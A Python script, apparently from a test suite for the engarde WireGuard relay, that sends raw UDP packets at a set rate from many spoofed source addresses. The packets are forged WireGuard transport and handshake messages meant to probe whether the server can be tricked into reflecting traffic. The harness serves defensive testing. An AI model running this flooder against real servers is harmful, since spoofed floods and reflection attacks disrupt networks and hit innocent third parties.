"""Run inside the server namespace (as root): an attacker who read a real WireGuard session
index off the wire (an on-path observer) sprays the engarde server with transport data naming
that index, from many spoofed victim source addresses, hoping to be reflected. It cannot know
the tags, so counters and tags are random. Also sends handshake initiations from the victims.

Usage: spoof_index.py DST_IP DST_PORT SOURCE_PREFIX INDEX (e.g. 10.150.201 3735928559)
Env: SPOOF_SECONDS (2), SPOOF_RATE (5000/s), SPOOF_SOURCES (1000).
Prints one JSON line: {"sent": n, "bytes": n, "sources": n}.
"""

from __future__ import annotations

import json
import os
import random
import struct
import sys
import time

from rawudp import packet, raw_socket


def main() -> None:
    dst, dport, prefix, index = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    rng = random.Random(11)
    raw = raw_socket()
    n_sources = int(os.environ.get("SPOOF_SOURCES", "1000"))
    sources = [(f"{prefix}.{rng.randrange(1, 255)}", rng.randrange(1024, 65535))
               for _ in range(n_sources)]  # fmt: skip
    pool = []
    for i in range(4000):
        src, sport = sources[i % n_sources]
        if i % 10 == 9:
            payload = struct.pack("<II", 1, rng.getrandbits(32)) + os.urandom(140)
        else:
            payload = struct.pack("<IIQ", 4, index, rng.getrandbits(64)) + os.urandom(64)
        pool.append((len(payload), packet(src, sport, dst, dport, payload)))
    rate = float(os.environ.get("SPOOF_RATE", "5000"))
    started = time.monotonic()
    deadline = started + float(os.environ.get("SPOOF_SECONDS", "2"))
    sent = size = 0
    while time.monotonic() < deadline:
        ahead = sent / rate - (time.monotonic() - started)
        if ahead > 0:
            time.sleep(ahead)
        for _ in range(50):
            n, data = pool[sent % len(pool)]
            raw.sendto(data, (dst, 0))
            sent += 1
            size += n
    print(json.dumps({"sent": sent, "bytes": size, "sources": n_sources}))


main()
